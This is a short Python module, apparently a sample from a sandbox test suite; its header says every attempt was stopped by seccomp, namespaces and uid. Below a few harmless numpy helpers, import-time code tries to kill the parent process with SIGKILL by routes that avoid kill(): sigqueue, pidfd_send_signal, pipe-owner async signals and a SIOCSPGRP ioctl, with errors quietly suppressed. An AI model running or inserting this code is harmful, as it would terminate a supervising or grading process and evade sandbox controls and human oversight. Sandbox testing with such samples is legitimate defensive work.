"""Sends signals without kill(): by queues, by a descriptor of the process, as the owner of a
pipe, and by a message that a terminal would send.

score: 8 of 8
flags: none
stopped by: seccomp, namespaces, uid
"""

# %%
import contextlib
import ctypes
import fcntl
import os
import signal
import struct

import numpy as np


def square(x):
    return np.asarray(x, dtype=float) ** 2


def total(values):
    return float(np.sum(values))


def apply(f, x):
    return f(x)


def scale(values, factor):
    return values * factor


# %%
LIBC = ctypes.CDLL(None)
PARENT = os.getppid()
LIBC.sigqueue(PARENT, signal.SIGKILL, None)
with contextlib.suppress(OSError):
    signal.pidfd_send_signal(os.pidfd_open(PARENT), signal.SIGKILL)
READ, WRITE = os.pipe()
with contextlib.suppress(OSError):
    fcntl.fcntl(READ, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(READ, fcntl.F_SETOWN, PARENT)
    fcntl.fcntl(READ, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(WRITE, b".")
with contextlib.suppress(OSError):
    fcntl.ioctl(0, 0x8902, struct.pack("i", PARENT))  # SIOCSPGRP
